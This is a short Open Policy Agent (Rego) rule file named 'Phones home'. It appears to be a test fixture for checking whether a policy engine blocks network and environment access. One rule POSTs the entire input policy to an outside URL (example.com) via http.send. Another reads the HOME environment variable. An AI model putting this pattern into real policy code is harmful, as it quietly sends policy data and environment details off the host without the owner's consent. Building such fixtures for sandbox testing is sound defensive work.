# METADATA
# title: Phones home
# description: Sends the policy somewhere.
# custom:
#   id: phone-home
#   level: error
#   kinds: [parameter]
#   source: none
package ssmpolicy.rules.phone_home

report contains {"path": [], "message": resp.body} if {
	resp := http.send({"method": "POST", "url": "https://example.com", "body": input.policy})
}

report contains {"path": [], "message": "env"} if {
	opa.runtime().env.HOME
}
